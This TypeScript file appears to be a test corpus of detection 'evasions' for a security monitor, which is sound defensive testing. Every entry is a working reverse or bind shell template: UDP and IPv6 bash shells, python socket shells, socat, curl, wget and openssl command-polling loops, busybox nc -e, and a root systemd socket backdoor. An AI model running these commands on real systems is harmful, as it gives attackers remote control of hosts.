// Other ways on the wire: datagrams, IPv6, requests that ask for the next command, names that do not say what they are.
import type { Place } from "../hard_attacks.ts";
import { type Evasion, evasion, fromFile, peer } from "./row.ts";

/** A web server whose page is the command; what is posted to it came from the host. */
function asks(place: Place, body?: string) {
  const command = body ?? `echo ${place.marker}-$((6*7)); touch ${place.effect}\n`;
  return { do: "http" as const, port: place.port, files: { "/next": command } };
}
const base64Page = (place: Place) =>
  asks(place, Buffer.from(`echo ${place.marker}-$((6*7)); touch ${place.effect}\n`).toString("base64"));
const datagrams = (place: Place): string =>
  `import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nto = ("${place.attacker}", ${place.port})\n`;
const ask = (place: Place): string => `http://${place.attacker}:${place.port}`;
const HOPE_POLL = "each request is over before the command runs, as with any client of the web";

export const WAYS: readonly Evasion[] = [
  evasion(
    "bash over UDP",
    "no connection is ever established",
    (place) => `exec bash -i >& /dev/udp/${place.attacker}/${place.port} 0>&1`,
    { transport: "udp" },
  ),
  evasion(
    "python over a connected UDP socket runs each datagram",
    "no connection is ever established",
    (place) =>
      `exec python3 -c '${datagrams(place)}s.connect(to)\ns.send(b"x")\nwhile True: s.send(subprocess.getoutput(s.recv(4096).decode()).encode() or b" ")'`,
    { transport: "udp" },
  ),
  evasion(
    "python over an unconnected UDP socket runs each datagram",
    "the socket has no peer",
    (place) =>
      `exec python3 -c '${datagrams(place)}s.sendto(b"x", to)\nwhile True: s.sendto(subprocess.getoutput(s.recv(4096).decode()).encode() or b" ", to)'`,
    { transport: "udp" },
  ),
  fromFile(
    "python from a file over an unconnected UDP socket runs each datagram",
    "the socket has no peer and the program a place",
    "python3",
    (place) =>
      `${datagrams(place)}s.sendto(b"x", to)\nwhile True: s.sendto(subprocess.getoutput(s.recv(4096).decode()).encode() or b" ", to)`,
    { transport: "udp" },
  ),
  evasion(
    "python over an unconnected UDP socket feeds a shell",
    "the socket has no peer, the shell has pipes",
    (place) =>
      `exec python3 -c '${datagrams(place)}import os\ns.sendto(b"x", to)\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\nif os.fork() == 0:\n    while True: s.sendto(os.read(p.stdout.fileno(), 999), to)\nwhile True: os.write(p.stdin.fileno(), s.recv(999))'`,
    { transport: "udp" },
  ),
  evasion(
    "socat over UDP executes a shell",
    "no connection is ever established",
    (place) => `exec socat UDP:${place.attacker}:${place.port} EXEC:'sh -i',pty,stderr`,
    { transport: "udp" },
  ),
  evasion(
    "bash over IPv6",
    "another family of addresses",
    (place) => `exec bash -i >& /dev/tcp/${place.attacker6}/${place.port} 0>&1`,
  ),
  evasion(
    "python over an IPv4 address in IPv6 clothes",
    "the address is neither",
    (place) =>
      `exec python3 -c 'import os,socket;s=socket.socket(socket.AF_INET6);s.connect(("::ffff:${place.attacker}",${place.port}));[os.dup2(s.fileno(),n) for n in (0,1,2)];os.execv("/bin/sh",["sh"])'`,
  ),
  evasion(
    "curl asks, a shell obeys, curl tells",
    HOPE_POLL,
    (place) =>
      `while :; do sh -c "$(curl -s ${ask(place)}/next)" 2>&1 | curl -s --data-binary @- ${ask(place)}/said; sleep 1; done`,
    { server: asks },
  ),
  evasion(
    "curl pipes into a shell that pipes into curl",
    HOPE_POLL,
    (place) =>
      `while :; do curl -s ${ask(place)}/next | sh 2>&1 | curl -s --data-binary @- ${ask(place)}/said; sleep 1; done`,
    { server: asks },
  ),
  evasion(
    "curl, base64 and a shell in a loop",
    "the command is not readable on the wire",
    (place) =>
      `while :; do curl -s ${ask(place)}/next | base64 -d | sh 2>&1 | base64 | curl -s --data-binary @- ${ask(place)}/said; sleep 1; done`,
    { server: base64Page },
  ),
  fromFile(
    "a script asks by wget and tells by wget",
    HOPE_POLL,
    "bash",
    (place) =>
      `while :; do out=$(bash -c "$(wget -qO- ${ask(place)}/next)" 2>&1); wget -qO /dev/null --post-data="$out" ${ask(place)}/said; sleep 1; done`,
    { server: asks },
  ),
  evasion(
    "inline python asks the web and posts what came out",
    HOPE_POLL,
    (place) =>
      `exec python3 -c 'import subprocess,time,urllib.request as u\nwhile True:\n    c = u.urlopen("${ask(place)}/next").read().decode()\n    u.urlopen("${ask(place)}/said", subprocess.getoutput(c).encode())\n    time.sleep(1)'`,
    { server: asks },
  ),
  evasion(
    "inline python keeps one connection of the web and decodes its orders",
    "a keep-alive client that runs a program looks the same",
    (place) =>
      `exec python3 -c 'import base64,http.client,subprocess,time\nc = http.client.HTTPConnection("${place.attacker}", ${place.port})\nwhile True:\n    c.request("GET", "/next")\n    o = subprocess.getoutput(base64.b64decode(c.getresponse().read()).decode())\n    c.request("POST", "/said", o)\n    c.getresponse().read()\n    time.sleep(1)'`,
    { server: base64Page },
  ),
  evasion(
    "openssl fetches, a shell obeys, openssl tells",
    "one request for each, encrypted",
    (place) =>
      `mkfifo ${place.folder}/x; openssl s_client -quiet -connect ${place.attacker}:${place.port} <${place.folder}/x 2>/dev/null | while read -r line; do sh -c "$line"; done >${place.folder}/x 2>&1`,
    { transport: "tls" },
  ),
  {
    ...evasion(
      "a bind shell of python runs each line",
      "it is connected to, and nothing lasts",
      (place) =>
        `exec python3 -c 'import socket,subprocess\nl = socket.create_server(("", ${place.port}))\ns, a = l.accept()\nfor line in s.makefile(): s.sendall(subprocess.getoutput(line).encode())'`,
    ),
    kind: "bind",
  },
  {
    ...fromFile(
      "a bind shell from a file gives a terminal",
      "a web terminal without a web",
      "python3",
      (place) => `import os, pty, socket, threading
l = socket.create_server(("", ${place.port}))
s, a = l.accept()
pid, master = pty.fork()
if pid == 0: os.execv("/bin/bash", ["bash"])
def out():
    while True: s.sendall(os.read(master, 4096))
threading.Thread(target=out).start()
while True: os.write(master, s.recv(4096))`,
    ),
    kind: "bind",
  },
  {
    ...evasion(
      "a socket unit of systemd starts a shell for each visitor",
      "pid 1 listens and accepts",
      (place) => `
        printf '[Socket]\\nListenStream=${place.port}\\nAccept=yes\\n' >/etc/systemd/system/door${place.port}.socket
        printf '[Service]\\nExecStart=-/bin/sh\\nStandardInput=socket\\nStandardOutput=socket\\n' >/etc/systemd/system/door${place.port}@.service
        systemctl daemon-reload; systemctl start door${place.port}.socket; sleep 6`,
      {
        user: "root",
        cleanup: (place) => `systemctl stop door${place.port}.socket; rm -f /etc/systemd/system/door${place.port}*`,
      },
    ),
    kind: "bind",
  },
  {
    ...evasion(
      "netcat of busybox listens for a shell",
      "one static program",
      (place) => `exec busybox nc -l -p ${place.port} -e /bin/sh`,
    ),
    kind: "bind",
  },
  evasion(
    "telnet and two fifos",
    "an old tool",
    (place) =>
      `mkfifo ${place.folder}/x; telnet ${peer(place)} <${place.folder}/x 2>/dev/null | sh >${place.folder}/x 2>&1`,
  ),
];
